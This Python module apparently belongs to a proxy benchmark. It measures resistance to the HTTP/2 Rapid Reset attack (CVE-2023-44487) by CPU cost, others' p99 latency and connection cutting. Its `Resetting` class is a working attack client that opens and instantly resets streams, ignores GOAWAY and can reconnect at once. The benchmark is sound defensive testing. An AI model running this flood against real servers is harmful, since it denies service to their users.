"""A client that opens streams and resets them at once (CVE-2023-44487), beside others that mean well."""
import ctypes
import multiprocessing
import statistics
import time

from comparison.counting import OwnProcess
from comparison.latency import quantile
from comparison.loads import fixed_rate
from comparison.processes import cpu_seconds
from comparison.proxies import Bench
from comparison.report import Section, at_least, at_most, ratio, say, shown

from .frames import END_HEADERS, END_STREAM, HEADERS, connect, frame, get, reset
from .fronts import started

CONNECTIONS = 32
REQUESTS_PER_SECOND = 4000
TICK_SECONDS = 0.001
# A stream id has 31 bits, and each stream is opened by an odd one.
STREAMS_MAX = 1 << 30
KINDS = ("no attack", "one connection", "comes back at once")
COST_MAX = 0.10
P99_GROWTH_MAX = 2.0


class Resetting(OwnProcess):
    """Opens and resets so many streams a second, no more: on one connection until it is cut, then on no other, or on the
    next at once if it returns. It doesn't care about GOAWAY. `taken` counts streams."""

    def __init__(self, core, port, per_second, returns):
        super().__init__(core)
        shared = multiprocessing.get_context("fork")
        self._connections = shared.RawValue(ctypes.c_uint64, 0)
        self._first_cut_micros = shared.RawValue(ctypes.c_uint64, 0)
        self._first_cut_streams = shared.RawValue(ctypes.c_uint64, 0)
        self.port = port
        self.per_second = per_second
        self.returns = returns

    @property
    def connections(self):
        return self._connections.value

    @property
    def first_cut(self):
        """Milliseconds and streams until the first connection was cut; None if it never was."""
        if not self._first_cut_micros.value:
            return None
        return self._first_cut_micros.value / 1e3, self._first_cut_streams.value

    def _serve(self):
        self.began = time.monotonic()
        while True:
            try:
                self._attack(connect(self.port))
            except OSError:
                # What was sent and not yet cut when the proxy began to is the proxy's to drop.
                pass
            if not self._first_cut_micros.value:
                self._first_cut_micros.value = max(1, int((time.monotonic() - self.began) * 1e6))
                self._first_cut_streams.value = self._taken.value
            while not self.returns:
                time.sleep(60)
            time.sleep(TICK_SECONDS)

    def _attack(self, connection):
        """Until the connection is cut: returns, or raises an OSError."""
        self._connections.value += 1
        block = get("/1k")
        connection.setblocking(False)
        stream = 1
        waiting = b""
        with connection:
            while stream < STREAMS_MAX:
                try:
                    while True:
                        if not connection.recv(1 << 16):
                            return
                except BlockingIOError:
                    pass
                due = min(int((time.monotonic() - self.began) * self.per_second) - self._taken.value, self.per_second // 10)
                if not waiting and due > 0:
                    waiting = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, id, block) + reset(id)
                                       for id in range(stream, stream + 2 * due, 2))
                    stream += 2 * due
                    self._taken.value += due
                try:
                    if waiting:
                        waiting = waiting[connection.send(waiting):]
                except BlockingIOError:
                    pass
                time.sleep(TICK_SECONDS)
            raise ConnectionResetError(f"{STREAMS_MAX} streams")


class Outcome:
    """One round of one kind: what the proxy's core was busy with, and what the others saw."""

    def __init__(self, busy, p99_millis, others):
        self.busy = busy
        self.p99_millis = p99_millis
        self.others = others


def measure(options):
    outcomes = {kind: [] for kind in KINDS}
    attacks = {}
    with Bench(options.launchers, *options.cores) as bench:
        bench.file("1k", 1024)
        bench.start_backend()
        running = started(bench, options.proxy)
        for turn in range(options.rounds):
            for kind in KINDS[turn % len(KINDS):] + KINDS[:turn % len(KINDS)]:
                say(f"rapid-reset: round {turn + 1} of {options.rounds}, {kind} …")
                fixed_rate(bench, running.port, "/1k", CONNECTIONS, REQUESTS_PER_SECOND, 1, http2=True)
                if kind == "no attack":
                    outcomes[kind].append(_round(bench, running, options.seconds))
                    continue
                with Resetting(bench.load_core, running.port, options.streams, kind == KINDS[-1]) as attack:
                    outcomes[kind].append(_round(bench, running, options.seconds))
                    attacks.setdefault(kind, []).append((attack.taken, attack.connections, attack.first_cut))
    return _section(options, outcomes, attacks)


def _round(bench, running, seconds):
    before, began = cpu_seconds(running.pid), time.monotonic()
    micros, others = fixed_rate(bench, running.port, "/1k", CONNECTIONS, REQUESTS_PER_SECOND, seconds, http2=True)
    used = sum(cpu_seconds(running.pid)) - sum(before)
    return Outcome(used / (time.monotonic() - began), quantile(micros, 0.99) / 1e3, others)


def _section(options, outcomes, attacks):
    section = Section(
        "Rapid reset",
        f"{options.proxy}; one client opens {options.streams:,} streams a second and resets each at once, in cleartext; others send "
        f"{REQUESTS_PER_SECOND:,} requests a second on {CONNECTIONS} connections by h2load. Medians of {options.rounds} rounds of "
        f"{options.seconds} s, in turn. The attack's cost is what the proxy's core was busier than without it in the same round.")
    section.headers = ["attack", "streams", "connections", "first cut after ms", "streams until then", "core", "attack's cost",
                       "p99 ms of others", "× without", "others' failures"]
    quiet = outcomes[KINDS[0]]
    for kind in KINDS:
        rounds = outcomes[kind]
        cost = statistics.median(one.busy - without.busy for one, without in zip(rounds, quiet))
        growth = statistics.median(ratio(one.p99_millis, without.p99_millis) for one, without in zip(rounds, quiet))
        failures = sum(one.others for one in rounds)
        said = _attack_cells(attacks.get(kind))
        section.rows.append([kind, *said, f"{statistics.median(one.busy for one in rounds):.1%}", f"{cost:.1%}",
                             shown(statistics.median(one.p99_millis for one in rounds)), shown(growth), str(failures)])
        if kind == KINDS[1]:
            cut = sum(first is not None for _, _, first in attacks[kind])
            section.bars += [at_least("rounds in which the connection was cut", cut, options.rounds, ""),
                             at_most("the attack's cost", cost, COST_MAX, " of a core")]
        if kind != KINDS[0]:
            section.bars += [at_most(f"{kind}: p99 of others", growth, P99_GROWTH_MAX, " × without"),
                             at_most(f"{kind}: others' failures", failures, 0, "")]
    return section


def _attack_cells(attacks):
    if not attacks:
        return ["–"] * 4
    cuts = [first for _, _, first in attacks if first]
    return [str(round(statistics.median(taken for taken, _, _ in attacks))),
            str(round(statistics.median(connections for _, connections, _ in attacks))),
            shown(statistics.median(millis for millis, _ in cuts) if cuts else None, 1),
            shown(statistics.median(streams for _, streams in cuts) if cuts else None, 0)]
